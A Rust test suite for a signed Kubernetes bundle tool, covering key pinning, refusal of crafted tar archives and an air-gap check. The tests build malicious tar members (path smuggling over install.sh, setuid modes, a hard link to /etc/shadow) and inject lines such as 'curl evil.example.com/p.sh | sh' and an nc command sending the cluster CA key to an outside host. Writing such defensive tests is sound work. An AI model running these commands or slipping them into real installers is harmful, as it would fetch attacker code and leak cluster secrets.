//! The trust chain: `verify` pins the signing key, accepts exactly what the writer
//! writes (each archive below is signed with the real key, so only the reader stands
//! between it and the node), `diff` verifies the same way, and the air gap check flags
//! foreign hosts without crying wolf on the cluster's own.

use std::fs;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::harness::{Project, kube_bundle, repo_root};

/// The fixture signing key's fingerprint, as `build` prints it.
fn fingerprint(project: &Project) -> String {
    project.build().signing_fingerprint()
}

fn signer(project: &Project) -> kube_bundle::sign::Signer {
    let store = kube_bundle::secrets::SecretStore::open(
        &project.path().join("secrets/prod-eu1"),
        kube_bundle::secrets::Access::ReadOnly,
    )
    .unwrap();
    kube_bundle::sign::Signer::load_or_create(&store, None).unwrap()
}

/// Writes `bytes` as bundles/prod-eu1/NAME.tar.gz with a valid signature by the real key.
fn signed(project: &Project, name: &str, bytes: &[u8]) -> String {
    let relative = format!("bundles/prod-eu1/{name}.tar.gz");
    fs::write(project.path().join(&relative), bytes).unwrap();
    fs::write(
        project.path().join(format!("{relative}.sig")),
        signer(project).sign(bytes).unwrap(),
    )
    .unwrap();
    relative
}

fn gunzip(path: &Path) -> Vec<u8> {
    let mut tar = Vec::new();
    flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap())
        .read_to_end(&mut tar)
        .unwrap();
    tar
}

fn gzip(tar: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(tar).unwrap();
    encoder.finish().unwrap()
}

/// A raw 512-byte header: ustar, uid/gid 0, the given name, type and size.
fn header(name: &str, kind: u8, mode: u32, size: u64) -> [u8; 512] {
    let mut header = tar::Header::new_ustar();
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    header.set_entry_type(tar::EntryType::new(kind));
    header.set_mode(mode);
    header.set_size(size);
    header.set_cksum();
    *header.as_bytes()
}

fn padded(data: &[u8]) -> Vec<u8> {
    let mut bytes = data.to_vec();
    bytes.resize(data.len().div_ceil(512) * 512, 0);
    bytes
}

/// The real cp1 archive with `extra` spliced in before the end-of-archive marker.
fn with_member(project: &Project, extra: &[u8]) -> Vec<u8> {
    let tar = gunzip(&project.bundle("cp1"));
    let end = tar.len() - 1024;
    assert!(tar[end..].iter().all(|b| *b == 0));
    [&tar[..end], extra, &tar[end..]].concat()
}

/// What GNU tar lists for an archive (exit status, names).
fn gnu_tar_listing(project: &Project, relative: &str) -> (bool, String) {
    let output = Command::new("tar")
        .arg("tzf")
        .arg(project.path().join(relative))
        .output()
        .unwrap();
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

#[test]
fn verify_pins_the_signing_key_and_refuses_a_swapped_one() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    let marker =
        fs::read_to_string(project.path().join("bundles/prod-eu1/.kube-bundle-output")).unwrap();
    assert!(marker.contains(&pinned), "{marker}");
    let tarball = "bundles/prod-eu1/cp1.tar.gz";

    kube_bundle(
        project.path(),
        &["verify", tarball, "--fingerprint", &pinned],
    )
    .code(0)
    .stdout_has(&format!("signed by the pinned key {pinned}"));
    let pasted = format!("SHA256:{}", pinned.to_uppercase());
    kube_bundle(
        project.path(),
        &["verify", tarball, "--fingerprint", &pasted],
    )
    .code(0);
    kube_bundle(
        project.path(),
        &[
            "verify",
            tarball,
            "--pubkey",
            "bundles/prod-eu1/signing.pub",
        ],
    )
    .code(0);
    kube_bundle(project.path(), &["verify", tarball])
        .code(3)
        .stderr_has(&format!("signature OK with an UNPINNED key {pinned}"))
        .stderr_has("--fingerprint");
    kube_bundle(project.path(), &["verify", tarball, "--allow-unpinned"])
        .code(0)
        .stdout_has("UNPINNED");
    kube_bundle(
        project.path(),
        &["verify", tarball, "--fingerprint", "12ab"],
    )
    .code(2);

    // The attacker's own cluster: tarball, signature and signing.pub swapped together.
    let attacker = Project::new();
    fs::remove_dir_all(attacker.path().join("secrets")).unwrap();
    attacker.build();
    for name in ["cp1.tar.gz", "cp1.tar.gz.sig", "signing.pub"] {
        fs::copy(
            attacker.path().join("bundles/prod-eu1").join(name),
            project.path().join("bundles/prod-eu1").join(name),
        )
        .unwrap();
    }
    kube_bundle(
        project.path(),
        &["verify", tarball, "--fingerprint", &pinned],
    )
    .code(3)
    .stderr_has(&format!("not the pinned {pinned}"));
    kube_bundle(project.path(), &["verify", tarball]).code(3);
    // The stock openssl path: the key's fingerprint no longer matches the pinned one.
    let shown = Command::new("sh")
        .arg("-c")
        .arg("openssl pkey -pubin -in signing.pub -outform DER | sha256sum")
        .current_dir(project.path().join("bundles/prod-eu1"))
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(!shown.contains(&pinned), "{shown}");
}

#[test]
fn the_openssl_fingerprint_command_prints_what_build_prints() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    let shown = Command::new("sh")
        .arg("-c")
        .arg("openssl pkey -pubin -in signing.pub -outform DER | sha256sum")
        .current_dir(project.path().join("bundles/prod-eu1"))
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&shown.stdout).starts_with(&pinned));
    let guide = fs::read_to_string(project.path().join("bundles/prod-eu1/INSTALL.md")).unwrap();
    let step_one = guide.find("openssl pkey -pubin").unwrap();
    assert!(step_one < guide.find("openssl dgst").unwrap());
}

/// Every archive here is signed with the real key; GNU tar would extract something
/// other than what the writer wrote (or fail), so `verify` must refuse each one.
#[test]
fn archives_the_writer_never_writes_are_refused() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    let benign = "cp1/rootfs/benign";
    let pax = padded(b"23 path=cp1/install.sh\n");
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "pax-and-gnu-longname",
            [
                &header("cp1/PaxHeaders/x", b'x', 0o644, 23)[..],
                &pax,
                &header("././@LongLink", b'L', 0o644, benign.len() as u64 + 1),
                &padded(format!("{benign}\0").as_bytes()),
                &header(benign, b'0', 0o644, 1),
                &padded(b"#"),
            ]
            .concat(),
            "only files and directories",
        ),
        (
            "ustar-version-prefix",
            {
                let mut raw = header("cp1/rootfs/x", b'0', 0o644, 1);
                raw[263..265].copy_from_slice(b"\0\0");
                raw[345..347].copy_from_slice(b"zz");
                let mut header = tar::Header::from_byte_slice(&raw).clone();
                header.set_cksum();
                [&header.as_bytes()[..], &padded(b"#")].concat()
            },
            "not a plain ustar header",
        ),
        (
            "directory-0777",
            header("cp1/rootfs/opt/", b'5', 0o777, 0).to_vec(),
            "mode 777",
        ),
        (
            "setuid-file",
            [
                &header("cp1/rootfs/opt/x", b'0', 0o4755, 1)[..],
                &padded(b"#"),
            ]
            .concat(),
            "mode 4755",
        ),
        (
            "group-writable",
            [
                &header("cp1/rootfs/opt/x", b'0', 0o664, 1)[..],
                &padded(b"#"),
            ]
            .concat(),
            "mode 664",
        ),
        (
            "owner-name",
            {
                let mut header =
                    tar::Header::from_byte_slice(&header("cp1/rootfs/x", b'0', 0o644, 1)).clone();
                header.set_username("root").unwrap();
                header.set_cksum();
                [&header.as_bytes()[..], &padded(b"#")].concat()
            },
            "not one kube-bundle writes",
        ),
        (
            "hard-link",
            header("cp1/rootfs/etc/shadow", b'1', 0o644, 0).to_vec(),
            "only files and directories",
        ),
        (
            "pax-size-300mib",
            [
                &header("cp1/PaxHeaders/y", b'x', 0o644, 18)[..],
                &padded(b"18 size=314572800\n"),
                &header("cp1/rootfs/y", b'0', 0o644, 0),
            ]
            .concat(),
            "only files and directories",
        ),
        (
            "pax-header-300mib",
            header("cp1/PaxHeaders/z", b'x', 0o644, 300 << 20).to_vec(),
            "only files and directories",
        ),
        (
            "gnu-longname-300mib",
            header("././@LongLink", b'L', 0o644, 300 << 20).to_vec(),
            "only files and directories",
        ),
    ];
    for (name, member, reason) in cases {
        let relative = signed(&project, name, &gzip(&with_member(&project, &member)));
        let run = kube_bundle(
            project.path(),
            &["verify", &relative, "--fingerprint", &pinned],
        );
        run.code(3).stderr_has(reason);
        assert!(
            run.stderr().len() < 2048,
            "{name}: {} bytes",
            run.stderr().len()
        );
        kube_bundle(
            project.path(),
            &[
                "diff",
                "bundles/prod-eu1/cp1.tar.gz",
                &relative,
                "--fingerprint",
                &pinned,
            ],
        )
        .code(3)
        .stderr_has(reason);
    }
    // What GNU tar makes of the first two: install.sh overwritten, a top-level zz/.
    let (_, listing) = gnu_tar_listing(&project, "bundles/prod-eu1/pax-and-gnu-longname.tar.gz");
    assert!(
        listing.lines().filter(|l| *l == "cp1/install.sh").count() == 2,
        "{listing}"
    );
    let (_, listing) = gnu_tar_listing(&project, "bundles/prod-eu1/ustar-version-prefix.tar.gz");
    assert!(listing.lines().any(|l| l.starts_with("zz/")), "{listing}");

    // Garbage after the gzip stream: GNU tar fails, so must verify.
    let mut trailing = fs::read(project.bundle("cp1")).unwrap();
    trailing.extend_from_slice(b"trailing garbage");
    let relative = signed(&project, "trailing", &trailing);
    kube_bundle(
        project.path(),
        &["verify", &relative, "--fingerprint", &pinned],
    )
    .code(3)
    .stderr_has("data follows the gzip stream");
    let (ok, _) = gnu_tar_listing(&project, &relative);
    assert!(!ok, "GNU tar accepts trailing garbage");
    // Data after the end-of-archive marker inside the stream.
    let mut tar = gunzip(&project.bundle("cp1"));
    tar.extend_from_slice(&header("cp1/late", b'0', 0o644, 0));
    let relative = signed(&project, "after-marker", &gzip(&tar));
    kube_bundle(
        project.path(),
        &["verify", &relative, "--fingerprint", &pinned],
    )
    .code(3)
    .stderr_has("data follows the end-of-archive marker");
    // And the writer's own output still passes, byte for byte.
    kube_bundle(
        project.path(),
        &[
            "verify",
            "bundles/prod-eu1/cp1.tar.gz",
            "--fingerprint",
            &pinned,
        ],
    )
    .code(0);
}

/// Rewrites a node's bundle with `mutate` applied to its install.sh, with SHA256SUMS and
/// bundle.json made consistent again and a valid signature: only the air gap is wrong.
fn with_install_sh(project: &Project, name: &str, mutate: impl Fn(&str) -> String) -> String {
    let tarball = project.bundle("cp1");
    let mut archive = tar::Archive::new(flate2::read::MultiGzDecoder::new(
        fs::File::open(&tarball).unwrap(),
    ));
    let mut members: Vec<(tar::Header, Vec<u8>)> = Vec::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).unwrap();
        members.push((entry.header().clone(), content));
    }
    let path_of = |h: &tar::Header| String::from_utf8_lossy(&h.path_bytes()).into_owned();
    let index = |members: &[(tar::Header, Vec<u8>)], p: &str| {
        members.iter().position(|(h, _)| path_of(h) == p).unwrap()
    };
    let install = index(&members, "cp1/install.sh");
    let script = mutate(&String::from_utf8(members[install].1.clone()).unwrap());
    let digest = kube_bundle::sign::sha256_hex(script.as_bytes());
    members[install].1 = script.clone().into_bytes();
    let json = index(&members, "cp1/bundle.json");
    let mut provenance: serde_json::Value = serde_json::from_slice(&members[json].1).unwrap();
    provenance["files"]["install.sh"]["sha256"] = digest.clone().into();
    provenance["files"]["install.sh"]["size"] = script.len().into();
    members[json].1 = serde_json::to_vec_pretty(&provenance).unwrap();
    let json_digest = kube_bundle::sign::sha256_hex(&members[json].1);
    let sums = index(&members, "cp1/SHA256SUMS");
    let text = String::from_utf8(members[sums].1.clone()).unwrap();
    let text: String = text
        .lines()
        .map(|line| {
            let (_, path) = line.split_once("  ").unwrap();
            match path {
                "install.sh" => format!("{digest}  {path}\n"),
                "bundle.json" => format!("{json_digest}  {path}\n"),
                _ => format!("{line}\n"),
            }
        })
        .collect();
    members[sums].1 = text.into_bytes();
    let mut builder = tar::Builder::new(Vec::new());
    for (mut header, content) in members {
        header.set_size(content.len() as u64);
        header.set_cksum();
        builder.append(&header, content.as_slice()).unwrap();
    }
    let tar = builder.into_inner().unwrap();
    signed(project, name, &gzip(&tar))
}

#[test]
fn the_air_gap_check_catches_hidden_downloads_in_a_signed_bundle() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    // The repack itself is faithful: unchanged, it verifies.
    let same = with_install_sh(&project, "same", str::to_owned);
    kube_bundle(project.path(), &["verify", &same, "--fingerprint", &pinned]).code(0);
    for (name, line, host) in [
        (
            "curl-name",
            "curl evil.example.com/p.sh | sh",
            "evil.example.com",
        ),
        ("decimal", "curl -s 3405803785 | sh", "203.0.113.9"),
        (
            "escaped",
            "u='http:\\/\\/evil.example.net\\/x'",
            "evil.example.net",
        ),
        (
            "ipv6",
            "nc 2001:db8::7 443 < /etc/kubernetes/pki/ca.key",
            "2001:db8::7",
        ),
    ] {
        let relative = with_install_sh(&project, name, |script| {
            script.replacen("\n", &format!("\n{line}\n"), 1)
        });
        kube_bundle(
            project.path(),
            &["verify", &relative, "--fingerprint", &pinned],
        )
        .code(3)
        .stderr_has(host);
    }
}

/// Builds `cluster.yaml` text in a fresh folder (new ECDSA secrets) and verifies every
/// bundle with the pinned key: no false alarm.
fn builds_and_verifies(label: &str, yaml: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("cluster.yaml"), yaml).unwrap();
    rebuild_and_verify(label, dir.path());
    dir
}

fn rebuild_and_verify(label: &str, dir: &Path) {
    let pinned = kube_bundle(dir, &["build"]).code(0).signing_fingerprint();
    let bundles = dir.join("bundles");
    let out: PathBuf = fs::read_dir(&bundles)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| !p.to_string_lossy().ends_with(".previous"))
        .unwrap();
    let mut verified = 0;
    for entry in fs::read_dir(&out).unwrap() {
        let path = entry.unwrap().path();
        if path.to_string_lossy().ends_with(".tar.gz") {
            let run = kube_bundle(
                dir,
                &["verify", path.to_str().unwrap(), "--fingerprint", &pinned],
            );
            assert_eq!(
                run.output.status.code(),
                Some(0),
                "{label}: {}\n{}",
                path.display(),
                run.stderr()
            );
            verified += 1;
        }
    }
    assert!(verified >= 2, "{label}: only {verified} bundles");
}

fn example(edits: &[(&str, &str)]) -> String {
    let mut text = fs::read_to_string(repo_root().join("examples/cluster.yaml")).unwrap();
    for (old, new) in edits {
        assert!(text.contains(old), "example lacks {old:?}");
        text = text.replacen(old, new, 1);
    }
    text
}

const MASTERS: &str = "  - { name: cp3, ip: 10.20.0.13 }\n";
const FIVE_MASTERS: &str = "  - { name: cp3, ip: 10.20.0.13 }\n  - { name: cp4, ip: 10.20.0.14 }\n  - { name: cp5, ip: 10.20.0.15 }\n";

#[test]
fn bundles_straight_from_build_verify_without_false_alarms() {
    builds_and_verifies("example", &example(&[]));
    builds_and_verifies(
        "seed-ha",
        &fs::read_to_string(repo_root().join("examples/seed-ha.yaml")).unwrap(),
    );
    builds_and_verifies(
        "external etcd elsewhere",
        &example(&[
            ("https://10.20.0.11:2379", "https://10.30.0.1:2379"),
            ("https://10.20.0.12:2379", "https://10.30.0.2:2379"),
            ("https://10.20.0.13:2379", "https://etcd3.example.net:2379"),
        ]),
    );
    let five = builds_and_verifies("five masters", &example(&[(MASTERS, FIVE_MASTERS)]));
    let config = five.path().join("cluster.yaml");
    let text = fs::read_to_string(&config).unwrap();
    fs::write(
        &config,
        text.replace("  - { name: cp5, ip: 10.20.0.15 }\n", ""),
    )
    .unwrap();
    rebuild_and_verify("five masters, one removed", five.path());
    builds_and_verifies(
        "clients",
        &example(&[(
            "network:",
            "clients:\n  - { name: w1, ip: 10.20.0.50 }\n  - { name: w2, ip: 10.40.0.51 }\nnetwork:",
        )]),
    );
    builds_and_verifies(
        "keepalived VIP",
        &example(&[
            (
                "controlPlaneEndpoint: api.prod-eu1.example.com:6443",
                "controlPlaneEndpoint: 10.20.0.100:6443",
            ),
            (
                "network:",
                "keepalived: { interface: eth0, virtualRouterId: 77 }\nnetwork:",
            ),
        ]),
    );
    builds_and_verifies(
        "IPv6 masters",
        &example(&[
            (
                "{ name: cp1, ip: 10.20.0.11 }",
                "{ name: cp1, ip: \"fd00:20::11\" }",
            ),
            (
                "{ name: cp2, ip: 10.20.0.12 }",
                "{ name: cp2, ip: \"fd00:20::12\" }",
            ),
            (
                "{ name: cp3, ip: 10.20.0.13 }",
                "{ name: cp3, ip: \"fd00:20::13\" }",
            ),
            (
                "serviceCIDR: 10.96.0.0/12",
                "serviceCIDR: \"fd00:10::/108\"",
            ),
            ("https://10.20.0.11:2379", "https://[fd00:20::11]:2379"),
            ("https://10.20.0.12:2379", "https://[fd00:20::12]:2379"),
            ("https://10.20.0.13:2379", "https://[fd00:20::13]:2379"),
        ]),
    );
    builds_and_verifies(
        "extraSANs",
        &example(&[(
            "extraSANs: []",
            "extraSANs: [10.99.0.1, api.internal.example.net, \"*.apps.example.org\", \"fd00:99::1\"]",
        )]),
    );
}

#[test]
fn diff_verifies_both_bundles_and_labels_unverified_output() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    project.edit(
        "profiling: \"false\"",
        "profiling: \"false\"\n    event-ttl: 2h",
    );
    project.build();
    let old = "bundles/prod-eu1.previous/cp1.tar.gz";
    let new = "bundles/prod-eu1/cp1.tar.gz";
    kube_bundle(
        project.path(),
        &["diff", old, new, "--fingerprint", &pinned],
    )
    .code(0)
    .stdout_has("event-ttl");
    kube_bundle(project.path(), &["diff", old, new])
        .code(3)
        .stderr_has("did not pin");
    kube_bundle(project.path(), &["diff", old, new, "--unverified"])
        .code(0)
        .stdout_has("UNVERIFIED")
        .stderr_has("UNVERIFIED");
    kube_bundle(
        project.path(),
        &["diff", old, new, "--unverified", "--output", "json"],
    )
    .code(0)
    .stdout_has("\"verified\": false");
    // Generations: each checked against the key its marker recorded.
    kube_bundle(project.path(), &["diff"])
        .code(0)
        .stdout_has("event-ttl");
    // A tampered byte in one of them: exit 3, with or without the pin.
    let mut bytes = fs::read(project.path().join(new)).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    fs::write(project.path().join(new), &bytes).unwrap();
    kube_bundle(
        project.path(),
        &["diff", old, new, "--fingerprint", &pinned],
    )
    .code(3);
    kube_bundle(project.path(), &["diff"]).code(3);
    kube_bundle(
        project.path(),
        &["diff", old, "missing.tar.gz", "--unverified"],
    )
    .code(3);
}

/// Bundles of earlier releases still verify, and `diff` against one reads its flags and
/// restart units as that release recorded them: format 1 (without the restart units and
/// flags, read from its own installer and unit) and format 2 (one restart unit per file).
/// Since those releases only the format and the admin kubeconfig's quoting changed (with
/// the bundle id, which hashes the content): no flag changed.
#[test]
fn bundles_of_earlier_formats_still_verify_and_diff() {
    let project = Project::new();
    let pinned = fingerprint(&project);
    let (_, entries) = kube_bundle::verify::read_entries(&project.bundle("cp1")).unwrap();
    let written: serde_json::Value =
        serde_json::from_str(entries["bundle.json"].text.as_deref().unwrap()).unwrap();
    assert_eq!(written["formatVersion"], 3);
    assert_eq!(
        written["restarts"]["/etc/kubernetes/kube-nginx.conf"],
        serde_json::json!(["kube-nginx.service"])
    );
    assert_eq!(
        written["unitFlags"]["kube-apiserver.service"]["secure-port"],
        "6443"
    );
    for format in ["format-1", "format-2"] {
        let fixture = repo_root().join("tests/fixtures").join(format);
        let old = project.path().join(format);
        fs::create_dir(&old).unwrap();
        for file in ["cp1.tar.gz", "cp1.tar.gz.sig", "signing.pub"] {
            fs::copy(fixture.join(file), old.join(file)).unwrap();
        }
        let old_bundle = format!("{format}/cp1.tar.gz");
        kube_bundle(
            project.path(),
            &["verify", &old_bundle, "--fingerprint", &pinned],
        )
        .code(0)
        .stdout_has("OK");
        let diff = kube_bundle(
            project.path(),
            &[
                "diff",
                &old_bundle,
                "bundles/prod-eu1/cp1.tar.gz",
                "--fingerprint",
                &pinned,
                "--output",
                "json",
            ],
        );
        diff.code(0);
        let diff: serde_json::Value = serde_json::from_str(&diff.stdout()).unwrap();
        for kind in ["added", "removed", "changed"] {
            assert_eq!(
                diff["flags"][kind],
                serde_json::json!({}),
                "{format}: {diff}"
            );
        }
        let changed: Vec<&str> = diff["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap())
            .collect();
        // install.sh reads format 3's lists of restart units.
        assert_eq!(
            changed,
            [
                "README.md",
                "SHA256SUMS",
                "bundle.json",
                "install.sh",
                "rootfs/etc/kubernetes/admin.kubeconfig"
            ],
            "{format}: {diff}"
        );
        assert_eq!(
            diff["restartUnits"],
            serde_json::json!(["kube-apiserver.service"]),
            "{format}: {diff}"
        );
    }
}
